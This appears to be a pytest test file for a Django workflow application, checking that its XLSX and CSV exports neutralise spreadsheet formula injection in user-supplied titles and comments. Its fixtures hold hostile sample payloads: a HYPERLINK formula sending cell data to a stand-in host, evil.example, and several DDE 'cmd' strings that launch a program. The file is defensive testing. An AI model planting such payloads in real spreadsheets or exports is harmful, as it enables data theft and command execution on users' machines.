"""Every file the system exports writes people's text as text: a title or a comment that starts like a formula
is a string cell in Excel and a neutralised cell in CSV (OWASP), numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from workflow.models import Proposal
from workflow.reports import csv_cell
from workflow.services.transitions import fire

from .world import at, build_world, complete_proposal, drive

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/","Bấm vào đây")'
HOSTILE_COMMENTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def scene():
    w = build_world()
    p = drive(w, complete_proposal(w, title=HOSTILE_TITLE), "district_submit")
    fire(
        p.pk,
        "return_for_revision",
        actor=w.user("appraiser"),
        now=at(3),
        comment=HOSTILE_COMMENTS[0],
    )
    return w, Proposal.objects.get(pk=p.pk)


def _formulas(body: bytes) -> list[str]:
    """The <f> elements of every sheet of a workbook: a formula cell is written as one."""
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def _cells(body: bytes) -> list:
    wb = load_workbook(io.BytesIO(body))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_the_audit_xlsx_holds_the_title_and_the_comment_as_text(client, scene):
    w, p = scene
    client.force_login(w.user("auditor"))
    body = client.get(reverse("audit:export", args=["xlsx"]) + f"?proposal={p.tracking_code}").content
    assert _formulas(body) == []
    cells = _cells(body)
    comment = [c for c in cells if c.value == HOSTILE_COMMENTS[0]]
    assert comment and all(c.data_type == "s" for c in comment)
    assert not [c for c in cells if c.data_type == "f"]
    # The numbers (row ids, sequence numbers) are still numbers.
    assert any(c.data_type == "n" and c.value == 1 for c in cells)


def test_the_audit_csv_neutralises_formula_text_and_keeps_numbers(client, scene):
    w, p = scene
    client.force_login(w.user("auditor"))
    body = client.get(reverse("audit:export", args=["csv"]) + f"?proposal={p.tracking_code}").content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    comments = [r[12] for r in rows[1:]]
    assert "'" + HOSTILE_COMMENTS[0] in comments
    assert HOSTILE_COMMENTS[0] not in comments
    assert [r[2] for r in rows[1:]] == [str(n) for n in sorted(range(1, len(rows)), reverse=True)]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_annual_plan_and_quarterly_workbooks_hold_the_title_as_text(client, scene):
    w, p = scene
    fire(p.pk, "lodge", actor=w.user("applicant"), now=at(5))  # in the plan again (lodged)
    drive(w, complete_proposal(w, title=HOSTILE_TITLE), "approve")  # in the quarter's list (approved)
    client.force_login(w.user("head"))
    for url in (
        reverse("dashboards:annual_plan") + "?year=2026&format=xlsx",
        reverse("dashboards:quarterly") + "?year=2026&quarter=1&format=xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.content
        assert _formulas(body) == [], url
        titles = [c for c in _cells(body) if c.value == HOSTILE_TITLE]
        assert titles and all(c.data_type == "s" for c in titles), url


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "+84912345678"),  # a number written with its sign: nothing to run
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-1500", "-1500"),
        ("-1.500.000", "-1.500.000"),
        ("+2,5", "+2,5"),
        (-1500, -1500),
        (0, 0),
        ("Đề án = máy sấy", "Đề án = máy sấy"),
        ("", ""),
    ],
)
def test_a_csv_cell_is_neutralised_only_when_it_would_run(value, written):
    assert csv_cell(value) == written
